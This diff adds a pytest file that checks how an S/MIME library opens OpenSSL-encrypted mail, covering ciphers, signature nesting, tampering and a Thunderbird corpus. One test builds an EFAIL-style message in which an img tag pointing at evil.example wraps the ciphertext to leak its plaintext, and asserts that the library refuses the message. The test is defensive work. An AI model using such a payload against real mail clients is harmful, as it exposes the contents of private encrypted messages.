@@ -1,0 +1,183 @@
+"""What `open` says about encrypted messages, each made by OpenSSL: opened, not ours, damaged, or unsafe to open."""
+
+from __future__ import annotations
+
+import json
+from datetime import UTC, datetime
+from pathlib import Path
+
+import pytest
+
+from letterlock.cms import RecipientKey
+from letterlock.keystore.failures import WrongPassphrase
+from letterlock.operations import identities, trust
+from letterlock.operations.open import OpenedMessage, Opening
+from letterlock.operations.trust import TrustSettings
+from tests.needs import require_program
+from tests.signed_mail import DemoMail
+
+TEXT = b"Content-Type: text/plain\r\n\r\nThe offer: EUR 18,400.00\r\n"
+
+
+@pytest.fixture(scope="module")
+def mail(tmp_path_factory: pytest.TempPathFactory) -> DemoMail:
+    require_program("openssl", "openssl")
+    return DemoMail(tmp_path_factory.mktemp("mail"))
+
+
+@pytest.fixture(scope="module")
+def settings(mail: DemoMail) -> TrustSettings:
+    return TrustSettings(tuple(trust.given([mail.anchor])))
+
+
+@pytest.fixture(scope="module")
+def keys(mail: DemoMail, tmp_path_factory: pytest.TempPathFactory) -> list[RecipientKey]:
+    passphrase = tmp_path_factory.mktemp("key") / "passphrase"
+    passphrase.write_text("correct horse\n")
+    return identities.given([mail.key_file(mail.carla, "correct horse")], passphrase)
+
+
+def opened(raw: bytes, settings: TrustSettings, keys: list[RecipientKey]) -> OpenedMessage:
+    opening = Opening(settings, keys=keys)
+    opening.feed(raw)
+    return opening.close()
+
+
+def codes(message: OpenedMessage) -> list[str]:
+    return [reason.code for reason in message.verdict.reasons]
+
+
+def entity(raw: bytes) -> bytes:
+    header, body = raw.split(b"\r\n\r\n", 1)
+    return header[header.index(b"Content-Type: ") :] + b"\r\n\r\n" + body
+
+
+def text(message: OpenedMessage) -> bytes:
+    return b"".join(b"".join(message.body(part.id)) for part in message.parts)
+
+
+@pytest.mark.parametrize(
+    ("options", "authenticated"), [(("-aes-256-cbc",), False), (("-aes-128-gcm",), True), (("-aes-256-gcm",), True)]
+)
+def test_opened(
+    mail: DemoMail, settings: TrustSettings, keys: list[RecipientKey], options: tuple[str, ...], authenticated: bool
+) -> None:
+    """With the key the text is there; what is not authenticated says so, and nothing of it is called signed."""
+    message = opened(mail.encrypt("Offer", TEXT, *options), settings, keys)
+    verdict = message.verdict
+    assert (verdict.encryption.status, verdict.encryption.authenticated) == ("decrypted", authenticated)
+    assert (verdict.signature.status, verdict.headline.code) == ("none", "encryption_decrypted")
+    assert ("encryption_not_authenticated" in codes(message)) is not authenticated
+    assert b"EUR 18,400.00" in text(message)
+    assert not any(part.covered for part in message.parts)
+
+
+def test_signed_then_encrypted(mail: DemoMail, settings: TrustSettings, keys: list[RecipientKey]) -> None:
+    """The usual order: the signature inside decides."""
+    message = opened(mail.encrypt("Offer", mail_entity(mail)), settings, keys)
+    assert message.verdict.encryption.status == "decrypted"
+    assert message.verdict.signature.status == "valid"
+    assert [layer.status for layer in message.verdict.layers] == ["decrypted", "valid"]
+    assert all(part.covered for part in message.parts)
+
+
+def mail_entity(mail: DemoMail) -> bytes:
+    return entity(mail.sign("Offer", TEXT))
+
+
+def test_encrypted_then_signed(mail: DemoMail, settings: TrustSettings, keys: list[RecipientKey]) -> None:
+    """Signed around the ciphertext: opened, and still the signer need not know what is inside."""
+    message = opened(mail.sign("Offer", entity(mail.encrypt("Offer", TEXT))), settings, keys)
+    assert message.verdict.encryption.status == "decrypted"
+    assert message.verdict.signature.status == "partial"
+    assert codes(message)[0] == "signature_covers_ciphertext"
+    assert b"EUR 18,400.00" in text(message)
+    assert message.verdict.signature.covers == []
+
+
+def test_triple_wrapped(mail: DemoMail, settings: TrustSettings, keys: list[RecipientKey]) -> None:
+    """Signed, encrypted, signed (RFC 2634 §1.1): the innermost signature decides."""
+    message = opened(mail.sign("Offer", entity(mail.encrypt("Offer", mail_entity(mail)))), settings, keys)
+    assert message.verdict.signature.status == "valid"
+    assert [layer.kind for layer in message.verdict.layers] == ["signed", "encrypted", "signed"]
+
+
+def test_no_key(mail: DemoMail, settings: TrustSettings) -> None:
+    """Without the key: for whom it was made, and nothing shown."""
+    message = opened(mail.enveloped(), settings, [])
+    assert message.verdict.encryption.status == "undecryptable"
+    assert message.verdict.headline.code == "encryption_undecryptable"
+    assert codes(message)[0] == "no_recipient_key"
+    assert message.parts == []
+
+
+@pytest.mark.parametrize("cipher", ["-aes-256-cbc", "-aes-256-gcm"])
+def test_changed_ciphertext_is_one_answer(
+    mail: DemoMail, settings: TrustSettings, keys: list[RecipientKey], cipher: str
+) -> None:
+    """However a ciphertext is changed, nothing of it is shown under GCM, and all failures read the same."""
+    raw = mail.encrypt("Offer", TEXT + b"x" * 600, cipher)
+    lines = raw.rstrip().split(b"\r\n")
+    answers = set()
+    # The last lines: ciphertext, and the tag where there is one.
+    for number in range(len(lines) - 6, len(lines)):
+        changed = bytearray(lines[number])
+        changed[2] = ord("A") if changed[2] != ord("A") else ord("B")
+        message = opened(b"\r\n".join([*lines[:number], bytes(changed), *lines[number + 1 :]]), settings, keys)
+        if message.verdict.encryption.status == "undecryptable":
+            answers.add((message.verdict.headline.code, codes(message)[0]))
+            assert message.parts == []
+        else:
+            assert cipher == "-aes-256-cbc", "an authenticated cipher let a changed text pass"
+            assert "encryption_not_authenticated" in codes(message)
+    assert answers == {("encryption_failed", "content_not_decrypted")}
+
+
+def test_an_encrypted_part_is_not_opened(mail: DemoMail, settings: TrustSettings, keys: list[RecipientKey]) -> None:
+    """EFAIL: ciphertext among clear parts stays ciphertext, and the message says so."""
+    inner = entity(mail.encrypt("Offer", TEXT))
+    raw = (
+        b"From: x@evil.example\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
+        b'--b\r\nContent-Type: text/html\r\n\r\n<img src="http://evil.example/?\r\n--b\r\n' + inner + b"\r\n--b\r\n"
+        b'Content-Type: text/html\r\n\r\n">\r\n--b--\r\n'
+    )
+    message = opened(raw, settings, keys)
+    assert message.verdict.encryption.status == "refused"
+    assert codes(message)[0] == "encrypted_part"
+    assert b"18,400" not in text(message)
+
+
+def test_wrong_passphrase(mail: DemoMail, tmp_path: Path) -> None:
+    """A wrong passphrase is said to be that."""
+    (tmp_path / "passphrase").write_text("wrong")
+    with pytest.raises(WrongPassphrase):
+        identities.given([mail.key_file(mail.carla, "correct horse")], tmp_path / "passphrase")
+
+
+def test_thunderbirds_encrypted_mail(corpora: Path, tmp_path: Path) -> None:
+    """Every encrypted message of Thunderbird's tests opens with Bob's or Fran's key and has its text.
+
+    What Thunderbird calls a good signature inside is intact here; what it calls bad or missing is never `valid`.
+    """
+    (tmp_path / "passphrase").write_text("nss")
+    files = sorted((corpora / "thunderbird").rglob("*.p12"))
+    keys = identities.given(files, tmp_path / "passphrase")
+    settings = TrustSettings(tuple(trust.given([corpora / "thunderbird/mailnews/test/data/smime/TestCA.pem"])))
+    rows = json.loads((corpora / "expected.json").read_text())
+    seen = 0
+    for row in rows:
+        if not row["path"].startswith("thunderbird/") or row["operation"] != "decrypt+verify":
+            continue
+        opening = Opening(settings, datetime(2026, 2, 1, tzinfo=UTC), keys=keys)
+        opening.feed((corpora / row["path"]).read_bytes())
+        message = opening.close()
+        expected = row["expected"]
+        assert message.verdict.encryption.status == "decrypted", (row["path"], codes(message))
+        if expected["text_contains"]:
+            assert expected["text_contains"].encode() in text(message), row["path"]
+        if expected["signature_good"]:
+            assert message.verdict.signature.status in ("valid", "mismatch"), (row["path"], codes(message))
+        else:
+            assert message.verdict.signature.status != "valid", row["path"]
+        seen += 1
+    assert seen == 26
